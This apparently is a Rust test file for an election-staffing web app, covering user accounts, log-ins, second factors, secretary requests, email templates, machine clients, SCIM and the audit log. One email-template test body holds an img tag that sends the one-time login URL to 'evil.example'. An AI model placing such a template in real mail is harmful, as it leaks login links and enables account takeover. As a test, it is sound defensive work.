//! Who works with it: accounts, log-ins, requests for secretaries, settings, texts and mails, machine clients, the audit log.

use valghalla_tests::machines::form;
use valghalla_tests::people::PASSWORD;
use valghalla_tests::recording::Recorded;
use valghalla_tests::scim::{patch, user};
use valghalla_tests::{Method, Value, json};

use super::Cast;
use super::places::Places;

const TEXT: &str =
    "Kære [user:full-name]\n\nVælg en adgangskode: [user:one-time-login-url]\nLog ind på [site:login-url]\n";

pub async fn told(cast: &Cast<'_>, places: &Places) {
    users(cast, places).await;
    log_ins(cast).await;
    requests(cast, places).await;
    office(cast).await;
    machines(cast, places).await;
    log(cast).await;
}

async fn users(cast: &Cast<'_>, places: &Places) {
    let admin = &cast.admin;
    let new = |name: &str, full_name: &str, role: &str, notify: bool| {
        let grants = json!([{"party_id": places.parties[2], "scope": "party"}]);
        json!({"username": name, "full_name": full_name, "email": format!("{name}@example.dk"), "role": role,
            "grants": if role == "party_secretary" { grants } else { json!([]) }, "notify": notify, "locale": "da"})
    };
    let mut made = Vec::new();
    for (name, full_name, role, notify) in [
        ("aase", "Åse Ås", "party_secretary", true),
        ("aage", "Aage Ågård", "auditor", false),
        ("oeyvind", "Øyvind Ærø", "party_secretary", true),
        ("bjoern", "Björn Z", "election_officer", true),
        ("zenia", "zenia åberg", "party_secretary", false),
    ] {
        made.push(admin.with("idempotency-key", name).made("/users", new(name, full_name, role, notify)).await);
    }
    for body in [
        new("aase", "Igen", "auditor", false),
        new("AASE", "Igen", "auditor", false),
        new("", "", "konge", true),
        new("to@@x", "A\u{0}", "auditor", true),
        json!({"username": "x", "password": PASSWORD}),
    ] {
        admin.post("/users", body).await;
    }
    for sort in ["name", "-last_login_at", "-created_at"] {
        admin.pages(&format!("/users?sort={sort}&limit=3&with_total=true")).await;
    }
    for filter in [
        "q=%C3%A5",
        "q=AA",
        "q=%C3%98yv",
        "q=example.dk",
        "role=auditor",
        "state=created",
        "state=invited",
        "state=active",
        "state=blocked",
        "role=konge",
    ] {
        admin.get(&format!("/users?{filter}&with_total=true")).await;
    }
    admin.get(&format!("/users?party_id={}", places.parties[2])).await;
    admin.get(&format!("/users?site_id={}", places.sites[0])).await;
    let path = format!("/users/{}", made[0]);
    let version = admin.get(&path).await.version();
    admin.patch(&path, version, json!({"full_name": "Åse Ås Holm", "email": "holm@example.dk"})).await;
    admin.patch(&path, version, json!({"role": "auditor"})).await;
    admin.patch(&path, version + 1, json!({"locale": "fr", "username": "olga"})).await;
    admin.get(&path).await;
    for what in ["invitations", "block", "block", "unblock", "unblock"] {
        admin.post(&format!("{path}/{what}"), json!({})).await;
    }
    admin.get(&format!("{path}/sessions")).await;
    admin.call(Method::DELETE, &format!("{path}/sessions"), None, None).await;
    admin.post(&format!("{path}/second-factor-resets"), json!({"reason": "Har mistet sin telefon"})).await;
    let path = format!("/users/{}", made[1]);
    admin.delete(&path, 7).await;
    admin.delete(&path, 1).await;
    admin.get(&path).await;
    cast.officer.get("/users?limit=2").await;
    for state in ["queued", "cancelled", "sent"] {
        admin.pages(&format!("/mails?state={state}&limit=2&with_total=true")).await;
    }
    let mail = admin.get(&format!("/mails?user_id={}", made[2])).await;
    admin.post(&format!("/mails/{}/retry", mail.ids()[0]), json!({})).await;
}

async fn log_ins(cast: &Cast<'_>) {
    let nobody = &cast.nobody;
    nobody.get("/public").await;
    for body in [
        json!({"username": "aase", "password": "forkert"}),
        json!({"username": "ingen", "password": "forkert"}),
        json!({}),
    ] {
        nobody.post("/auth/login", body).await;
    }
    let token = cast.app.link_of("oeyvind@example.dk").await;
    for word in [token.as_str(), "x"] {
        nobody.post("/auth/links/inspect", json!({"token": word})).await;
        nobody.post("/auth/links/redeem", json!({"token": word, "new_password": "kort"})).await;
        nobody.post("/auth/links/redeem", json!({"token": word, "new_password": PASSWORD})).await;
        nobody.post("/auth/links/inspect", json!({"token": word})).await;
        nobody.post("/auth/links/renewals", json!({"token": word})).await;
        // It is sent when the answer is given.
        while cast.app.link_of("oeyvind@example.dk").await == token {
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    }
    nobody.post("/auth/password-resets", json!({"username": "ingen"})).await;
    let challenge = nobody.post("/auth/login", json!({"username": "revisor", "password": PASSWORD})).await.expect(200);
    nobody.post("/auth/second-factor", json!({"challenge": challenge["challenge"], "proof": {"totp": "abc"}})).await;
    nobody.post("/auth/second-factor", json!({"challenge": "x", "proof": {"totp": "123456"}})).await;
    nobody.call(Method::POST, "/auth/refresh", None, None).await;
    nobody.with("x-requested-with", "x").call(Method::POST, "/auth/refresh", None, None).await;
    nobody.with("x-requested-with", "x").call(Method::POST, "/auth/logout", None, None).await;
    for who in [&cast.admin, &cast.birgit, &cast.auditor] {
        for what in ["", "/terms", "/sessions", "/second-factors"] {
            who.get(&format!("/me{what}")).await;
        }
        who.put("/me/terms", 1, json!({"version": 1})).await;
        who.put("/me/terms", 1, json!({"version": 7})).await;
        who.post("/auth/step-up", json!({"proof": {"totp": "abc"}})).await;
        who.post("/auth/step-up/challenges", json!({})).await;
        who.put("/me/password", 1, json!({"current_password": "forkert", "new_password": "kort"})).await;
    }
    let factors = cast.birgit.get("/me/second-factors").await.expect(200);
    let factor = format!("/me/second-factors/{}", factors["items"][0]["id"].as_str().unwrap());
    cast.birgit.patch(&factor, 1, json!({"name": "Ny telefon 📱"})).await;
    cast.birgit.patch(&factor, 1, json!({"name": ""})).await;
    cast.birgit.call(Method::POST, "/me/recovery-codes", None, None).await;
    let begun = cast.birgit.post("/me/second-factors/totp", json!({})).await.expect(200);
    let confirm = format!("/me/second-factors/{}/confirm", begun["id"].as_str().unwrap());
    cast.birgit.post(&confirm, json!({"name": "To", "code": "abc"})).await;
    cast.birgit.get("/me/second-factors").await;
}

async fn requests(cast: &Cast<'_>, places: &Places) {
    let ask = |name: &str, party: usize, sites: &[usize]| {
        let sites: Vec<&String> = sites.iter().map(|site| &places.sites[*site]).collect();
        json!({"full_name": name, "email": "karen@example.dk", "party_id": places.parties[party], "site_ids": sites})
    };
    let mut made = Vec::new();
    for (name, sites) in [("Karen Blik", [0, 2]), ("Åge Ø", [5, 1]), ("Ærlig", [3, 4])] {
        made.push(cast.birgit.made("/secretary-requests", ask(name, 0, &sites)).await);
    }
    cast.carl.post("/secretary-requests", ask("Uden for rækkevidde", 1, &[9])).await;
    cast.birgit.post("/secretary-requests", ask("", 2, &[])).await;
    for who in [&cast.admin, &cast.birgit, &cast.carl, &cast.officer] {
        who.get("/secretary-requests").await;
        who.get(&format!("/secretary-requests/{}", made[0])).await;
    }
    let of = |n: usize, what: &str| format!("/secretary-requests/{}/{what}", made[n]);
    let account = json!({"username": "karen", "email": "karen@example.dk", "notify": true});
    cast.birgit.post(&of(0, "approve"), account.clone()).await;
    cast.admin.post(&of(0, "approve"), account.clone()).await;
    cast.admin.post(&of(0, "approve"), account.clone()).await;
    cast.admin.post(&of(1, "approve"), account).await;
    cast.admin.post(&of(1, "reject"), json!({"reason": ""})).await;
    cast.admin.post(&of(1, "reject"), json!({"reason": "Partiet har sekretærer nok"})).await;
    cast.carl.post(&of(2, "withdraw"), json!({})).await;
    cast.birgit.post(&of(2, "withdraw"), json!({})).await;
    cast.birgit.get("/secretary-requests").await;
}

async fn office(cast: &Cast<'_>) {
    let admin = &cast.admin;
    let before = admin.get("/settings").await;
    let mut settings = before.expect(200);
    settings.as_object_mut().unwrap().remove("version");
    settings["site_name"] = json!("Valghalla på øen");
    settings["retention"] = json!({"weeks": 30, "automatic": false});
    admin.put("/settings", before.version(), settings.clone()).await;
    admin.put("/settings", before.version(), settings.clone()).await;
    settings["retention"] = json!({"weeks": 3, "automatic": null});
    settings["contact"] = json!({"name": "", "email": "x"});
    admin.put("/settings", before.version() + 1, settings).await;
    admin.get("/email-templates").await;
    let welcome = "/email-templates/welcome";
    for locale in ["", "?locale=en", "?locale=fr"] {
        admin.get(&format!("{welcome}{locale}")).await;
    }
    for text in [
        json!({"subject": "Velkommen", "body": TEXT}),
        json!({"subject": "[user:nmae]\n", "body": "Intet link [x"}),
        json!({"subject": "x", "body": "<img src=\"http://evil.example/?[user:one-time-login-url]\">"}),
    ] {
        admin.put(welcome, 0, text.clone()).await;
        admin.post(&format!("{welcome}/preview"), text.clone()).await;
        admin.post(&format!("{welcome}/test-mails"), text).await;
    }
    admin.get(&format!("{welcome}/versions")).await;
    admin.delete(welcome, 0).await;
    admin.delete(welcome, 1).await;
    admin.get(welcome).await;
    admin.get(&format!("{welcome}/versions")).await;
}

async fn machines(cast: &Cast<'_>, places: &Places) {
    let admin = &cast.admin;
    let wanted =
        json!({"name": "Lønsystem", "scopes": ["users:read", "users:write", "sites:read"], "accounts_per_day": 100});
    let id = admin.made("/machine-clients", wanted).await;
    admin.post("/machine-clients", json!({"name": "", "scopes": ["alt"], "accounts_per_day": -1})).await;
    let path = format!("/machine-clients/{id}");
    admin.patch(&path, 1, json!({"accounts_per_day": 400, "party_ids": [places.parties[0], places.parties[1]]})).await;
    admin.patch(&path, 2, json!({"party_ids": null})).await;
    admin.get("/machine-clients").await;
    let given = admin.post(&format!("{path}/secrets"), json!({"valid_days": 30})).await.expect(201);
    admin.post(&format!("{path}/secrets"), json!({"valid_days": 0})).await;
    let ask =
        |secret: &str| form(&json!({"grant_type": "client_credentials", "client_id": id, "client_secret": secret}));
    let url_encoded = "application/x-www-form-urlencoded";
    let token =
        cast.nobody.raw(Method::POST, "/oauth/token", url_encoded, &ask(given["secret"].as_str().unwrap())).await;
    cast.nobody.raw(Method::POST, "/oauth/token", url_encoded, &ask("x")).await;
    cast.nobody.raw(Method::POST, "/oauth/token", url_encoded, "grant_type=password").await;
    let bearer = format!("Bearer {}", token.expect(200)["access_token"].as_str().unwrap());
    let machine = cast.nobody.with("authorization", &bearer);
    by_external_id(&machine, places).await;
    directory(&machine, places).await;
    admin.get(&path).await;
    admin.call(Method::DELETE, &format!("{path}/secrets/{}", given["id"].as_str().unwrap()), None, None).await;
    admin.post(&format!("{path}/revoke"), json!({})).await;
    machine.get("/sites?limit=2").await;
}

async fn by_external_id(machine: &Recorded<'_>, places: &Places) {
    let account = |name: &str| {
        json!({"full_name": format!("Navn {name}"), "email": format!("{name}@example.dk"),
            "grants": [{"party_id": places.parties[0], "scope": "site", "site_ids": [places.sites[1], places.sites[0]]}]})
    };
    let path = "/users/by-external-id/4711";
    for body in [account("ekstern"), account("ekstern"), account("andet"), json!({"full_name": "", "grants": [{}]})] {
        machine.call(Method::PUT, path, None, Some(&body)).await;
        machine.get(path).await;
    }
    let mut set = account("to");
    set["external_id"] = json!("4712");
    let set = json!({"accounts": [set]});
    let plan = machine.call(Method::PUT, "/users/managed?dry_run=true", None, Some(&set)).await;
    let planned = machine.with("if-match", plan.headers["etag"].to_str().unwrap());
    planned.call(Method::PUT, "/users/managed", None, Some(&set)).await;
    planned.call(Method::PUT, "/users/managed", None, Some(&set)).await;
    machine.get("/users?sort=name").await;
    machine.get("/sites?limit=2").await;
    machine.get("/assignments").await;
}

async fn directory(machine: &Recorded<'_>, places: &Places) {
    let send = async |method: Method, path: &str, body: &Value| {
        machine.raw(method, &format!("/scim/v2{path}"), "application/scim+json", &body.to_string()).await
    };
    let made = send(Method::POST, "/Users", &user("scim-aase")).await.expect(201);
    send(Method::POST, "/Users", &user("scim-aase")).await;
    let path = format!("/Users/{}", made["id"].as_str().unwrap());
    let steps = json!([{"op": "Replace", "path": "displayName", "value": "Åse Ø"}, {"op": "Replace", "path": "active", "value": "False"}]);
    send(Method::PATCH, &path, &patch(steps)).await;
    send(Method::PATCH, &path, &patch(json!([{"op": "move", "path": "x"}]))).await;
    send(Method::PUT, &path, &user("scim-aase")).await;
    let member = json!([{"op": "Add", "path": "members", "value": [{"value": made["id"]}]}]);
    send(Method::PATCH, &format!("/Groups/{}", places.parties[0]), &patch(member)).await;
    for ask in [
        "Users",
        "Users?filter=userName%20eq%20%22SCIM-AASE%22",
        "Users?filter=displayName%20co%20%22%C3%A5s%22",
        "Users?startIndex=2&count=1",
        "Users?filter=active%20eq",
        "Users?attributes=userName",
        "Groups",
        "Groups?excludedAttributes=members",
        "ResourceTypes",
        "Schemas",
        "ServiceProviderConfig",
        "ResourceTypes/User",
    ] {
        machine.get(&format!("/scim/v2/{ask}")).await;
    }
    send(Method::DELETE, &path, &Value::Null).await;
    machine.get(&format!("/scim/v2{path}")).await;
}

async fn log(cast: &Cast<'_>) {
    cast.app.keeper().finish().await.unwrap();
    let auditor = &cast.auditor;
    auditor.pages("/audit-events?limit=50").await;
    for filter in [
        "action=user.created",
        "action=assignment.reported",
        "object_type=site",
        "object_type=person",
        "from=2099-01-01T00:00:00Z",
        "to=2099-01-01T00:00:00Z&action=party.created",
        "action=x",
        "from=1899-12-31T00:00:00Z",
    ] {
        auditor.get(&format!("/audit-events?{filter}&limit=30")).await;
    }
    let actors = auditor.get("/audit-events/actors").await.expect(200);
    auditor.get(&format!("/audit-events?actor_id={}&limit=20", actors["items"][0]["id"].as_str().unwrap())).await;
    auditor.get("/audit-events/checkpoints").await;
    for body in
        [json!({"format": "csv"}), json!({"format": "jsonl", "action": "site.created"}), json!({"format": "pdf"})]
    {
        auditor.post("/audit-events/exports", body.clone()).await;
        cast.birgit.post("/audit-events/exports", body).await;
    }
    cast.admin.get("/audit-events?limit=5").await;
    cast.birgit.get("/audit-events").await;
}
